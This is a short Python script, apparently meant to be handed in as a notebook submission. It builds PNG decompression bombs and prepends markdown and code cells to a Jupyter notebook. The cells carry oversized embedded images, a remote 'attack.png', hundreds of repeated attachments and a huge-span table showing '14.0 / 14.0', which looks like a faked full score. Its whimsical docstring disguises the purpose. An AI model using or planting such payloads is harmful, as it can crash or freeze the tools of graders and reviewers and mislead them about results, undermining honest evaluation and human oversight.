"""Pictures from elsewhere, of many pixels in few bytes, and as wide as a town."""

import base64
import struct
import zlib


def _png(width, height):
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(bytes(100_000)))
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + head + body + chunk(b"IEND", b"")).decode()


def hand_in(folder, notebook, save):
    bomb, tall = _png(60_000, 60_000), _png(1, 200_000)
    texts = [
        f"<img src='data:image/png;base64,{bomb}'>",
        f"<img src='data:image/png;base64,{tall}' width=99999999 height=99999999 align=right>",
        "<img src='https://example.com/attack.png' width=5000 height=5000> ![x](https://example.com/attack.png)",
        "![x](attachment:a.png)" * 200,
        "<table><tr><td colspan=1000000 rowspan=1000000 width=1000000>14.0 / 14.0</td></tr></table>",
    ]
    cells = [{"cell_type": "markdown", "metadata": {}, "source": text, "attachments": {"a.png": {"image/png": bomb}}} for text in texts]
    show = f"from IPython.display import display\ndisplay({{'image/png': {bomb!r}, 'text/plain': ''}}, raw=True)\n"
    cells.append({"cell_type": "code", "metadata": {}, "source": show})
    notebook["cells"] = cells + notebook["cells"]
    save(notebook)
